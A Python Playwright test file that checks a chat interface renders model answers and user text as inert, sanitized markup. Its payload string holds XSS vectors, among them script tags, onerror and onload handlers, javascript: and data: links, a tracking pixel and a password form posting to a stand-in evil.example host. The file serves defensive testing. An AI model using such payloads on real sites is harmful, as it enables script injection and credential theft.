"""Model output is untrusted (SPEC §11): markdown is rendered, and nothing in it can run or load."""

from __future__ import annotations

from playwright.async_api import Request, expect

from tests.ui.conftest import UI
from vernis.scripted import Reply

PAYLOAD = """Here is the **summary** you asked for.
<script>window.__pwned = "script"</script>

<img src=x onerror="window.__pwned = 'onerror'">

[click me](javascript:window.__pwned='link') and [also me](JaVaScRiPt:window.__pwned='mixed-case')

<a href="javascript:window.__pwned='anchor'">raw anchor</a> <a href="data:text/html,<script>alert(1)</script>">data link</a>

![tracker](http://evil.example/pixel.png)

<iframe src="javascript:window.__pwned='iframe'"></iframe><svg onload="window.__pwned='svg'"></svg>

<p style="position:fixed;inset:0" onclick="window.__pwned='click'">overlay</p>

<form action="http://evil.example/steal"><input name="password"></form>

Read [the docs](https://docs.example.com/guide) or open [a contact](/contacts).
"""


async def test_model_answer_with_script_onerror_and_javascript_link_runs_nothing(ui: UI) -> None:
    """An answer carrying <script>, an onerror image, javascript: links, iframes and a foreign image renders as inert, safe markup."""
    ui.console_errors_expected = True  # the same-origin `<img src=x>` is a 404
    requests: list[str] = []

    def record(request: Request) -> None:
        requests.append(request.url)

    ui.page.on("request", record)
    ui.vernis.scripted.add(Reply(PAYLOAD), match="summary")
    await ui.open()
    await ui.send("give me the summary")
    answer = await ui.answered()
    await expect(answer.locator("strong")).to_have_text("summary")
    # Give an image error handler every chance to run.
    await ui.page.wait_for_timeout(300)
    assert await ui.page.evaluate("() => window.__pwned") is None

    markdown = answer.locator(".markdown")
    for tag in ("script", "iframe", "svg", "form", "input", "style"):
        await expect(markdown.locator(tag)).to_have_count(0)
    # `<img src=x>` is a same-origin image (allowed, without its handler); the foreign one is gone.
    images = await markdown.locator("img").evaluate_all("images => images.map(image => image.src)")
    assert images == [f"{ui.url}/x"]
    handlers = await markdown.evaluate(
        """root => [...root.querySelectorAll("*")].flatMap(element =>
            [...element.attributes].map(attribute => attribute.name)
                .filter(name => name.startsWith("on") || name === "style"))"""
    )
    assert handlers == []
    hrefs = await markdown.locator("a").evaluate_all("links => links.map(link => link.getAttribute('href'))")
    assert hrefs == [None, None, None, None, "https://docs.example.com/guide", "/contacts"]
    await expect(markdown.get_by_role("link", name="the docs")).to_have_attribute(
        "rel", "noopener noreferrer nofollow"
    )
    await expect(markdown.get_by_role("link", name="the docs")).to_have_attribute("target", "_blank")
    await expect(markdown.get_by_role("link", name="a contact")).not_to_have_attribute("target", "_blank")
    await expect(markdown.locator(".blocked-image")).to_have_text("[image: tracker]")
    assert not [url for url in requests if "evil.example" in url]

    # Clicking what used to be a javascript: link runs nothing either.
    await markdown.get_by_text("click me").click()
    assert await ui.page.evaluate("() => window.__pwned") is None


async def test_user_text_is_shown_as_text(ui: UI) -> None:
    """What the user types is shown as typed, never parsed as HTML."""
    ui.vernis.scripted.add(Reply("ok"), match="<b>")
    await ui.open()
    await ui.send('<b>bold?</b> <img src=x onerror="window.__pwned = 1">')
    await ui.answered()
    bubble = ui.log.locator(".msg.user .bubble")
    await expect(bubble).to_have_text('<b>bold?</b> <img src=x onerror="window.__pwned = 1">')
    await expect(bubble.locator("b, img")).to_have_count(0)
    assert await ui.page.evaluate("() => window.__pwned") is None
